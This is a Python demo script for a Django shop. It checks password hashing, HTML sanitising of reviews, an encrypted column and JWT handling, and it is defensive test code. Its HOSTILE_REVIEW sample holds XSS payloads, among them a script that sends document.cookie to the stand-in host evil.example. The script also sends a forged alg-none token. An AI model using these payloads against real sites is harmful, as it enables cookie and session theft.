"""The whole job on real input, step by step: `make demo`.

Drives the shop through its own pages, looks into its database file beside them, and
removes everything again. Exits with an error if a step is not as it should be.
"""

from __future__ import annotations

import os
import sqlite3
import sys
import tempfile
import textwrap
import time
from pathlib import Path

HOSTILE_REVIEW = """\
<p>Fits <b>perfectly</b>, see <a href="https://example.org/mail">my page</a>.</p>
<script>fetch('//evil.example/?c=' + document.cookie)</script>
<img src=x onerror="alert(1)"><a href="jav&#x09;ascript:alert(2)">more</a>
<p style="position:fixed;inset:0" onmouseover=alert(3)>Five stars</p>"""
ADDRESS = "Ada Lovelace\n12 St James's Square\nLondon"
PASSWORD = "correct horse battery staple"


def main() -> None:
    with tempfile.TemporaryDirectory(prefix="hauberk-demo-") as folder:
        os.environ["SHOP_VAR"] = folder
        os.environ["DJANGO_SETTINGS_MODULE"] = "config.settings"
        sys.path.insert(0, str(Path(__file__).parent))
        import django

        django.setup()
        run(Path(folder) / "shop.sqlite3")
    print("\nAll of it as it should be, and everything is cleaned up.")


def run(database: Path) -> None:
    from django.core.management import call_command
    from django.test import Client

    step("A shop with a new database")
    call_command("migrate", verbosity=0)
    show("database", f"{database.name}, {database.stat().st_size // 1024} KiB")

    # As a browser is treated: it sends the tokens of the forms it was shown.
    browser = Client(enforce_csrf_checks=True)

    def post(page: str, **fields: str) -> None:
        browser.get(page)
        token = browser.cookies["csrftoken"].value
        answer = browser.post(page, {**fields, "csrfmiddlewaretoken": token})
        check(f"POST {page} is accepted", answer.status_code == 302)

    step("A customer registers and logs in")
    post("/register/", username="ada", password1=PASSWORD, password2=PASSWORD)
    passwords(database, post, browser)

    step("She posts a hostile review")
    review(post, browser)

    step("She saves her address in an encrypted column")
    encrypted_address(database, post)

    step("She asks for a token for the API")
    token(browser)

    step("Two secrets are compared in constant time")
    comparison()


def passwords(database: Path, post: object, browser: object) -> None:
    from django.contrib.auth import authenticate

    stored = row(database, "SELECT password FROM auth_user WHERE username = 'ada'")
    show("stored", stored[:58] + "…")
    check("the hash is argon2id", stored.startswith("argon2$argon2id$v=19$"))
    file = database.read_bytes()
    check("the password is not in the file", PASSWORD.encode() not in file)
    start = time.perf_counter()
    user = authenticate(username="ada", password=PASSWORD)
    milliseconds = (time.perf_counter() - start) * 1000
    check("the right password logs in", user is not None)
    show("took", f"{milliseconds:.0f} ms at Django's own strength")
    user = authenticate(username="ada", password="Password1!")
    check("a wrong one does not", user is None)
    browser.cookies.clear()
    post("/login/", username="ada", password=PASSWORD)


def review(post: object, browser: object) -> None:
    post("/products/1/", html=HOSTILE_REVIEW)
    page = browser.get("/products/1/").content.decode()
    shown = page.partition("</small>")[2].partition("</article>")[0].strip()
    show("before", HOSTILE_REVIEW)
    show("after", shown)
    for harm in ("<script", "onerror", "onmouseover", "javascript:", "style=", "evil."):
        check(f"no {harm} is left", harm not in shown)
    for good in ("<b>perfectly</b>", "https://example.org/mail"):
        check(f"{good} is kept", good in shown)


def encrypted_address(database: Path, post: object) -> None:
    from store.models import Customer

    post("/address/", address=ADDRESS)
    on_disk = row(database, "SELECT address FROM store_customer")
    show("the row on disk", on_disk)
    read = Customer.objects.get().address.replace("\r\n", "\n")
    show("the application", read)
    check("the row names the key", on_disk.startswith("hb1."))
    check("the row holds no plaintext", "Ada" not in on_disk)
    check("the application reads what was written", read == ADDRESS)


def token(browser: object) -> None:
    issued = browser.get("/api/token/").json()["token"]
    show("token", issued)

    def ask(bearer: str) -> int:
        headers = {"Authorization": f"Bearer {bearer}"}
        return browser.get("/api/orders/", headers=headers).status_code

    check("the API answers it", ask(issued) == 200)
    header, claims, signature = issued.split(".")
    wrong = "B" if claims[10] == "A" else "A"
    tampered = f"{header}.{claims[:10]}{wrong}{claims[11:]}.{signature}"
    check("one changed character is refused", ask(tampered) == 401)
    unsigned = "eyJhbGciOiJub25lIn0"
    check("alg none is refused", ask(f"{unsigned}.{claims}.") == 401)


def comparison() -> None:
    from hauberk import compare_digest, tokens

    secret = tokens.token_urlsafe(32)
    check("equal ones are equal", compare_digest(secret, secret.encode()))
    check("others are not", not compare_digest(secret, tokens.token_urlsafe(32)))
    check("text need not be ASCII", compare_digest("schlüssel", "schlüssel".encode()))


def row(database: Path, query: str) -> str:
    """Read one value from the file, past Django."""
    connection = sqlite3.connect(database)
    try:
        return str(connection.execute(query).fetchone()[0])
    finally:
        connection.close()


def step(title: str) -> None:
    print(f"\n── {title} " + "─" * max(0, 70 - len(title)))


def show(name: str, value: str) -> None:
    lines = [
        part for line in value.splitlines() for part in textwrap.wrap(line, 68) or [""]
    ]
    for number, line in enumerate(lines):
        print(f"  {name if number == 0 else '':16} {line}")


def check(what: str, holds: bool) -> None:
    print(f"  {'ok' if holds else 'FAILED':16} {what}")
    if not holds:
        sys.exit(f"The demo stops: {what} did not hold.")


if __name__ == "__main__":
    main()
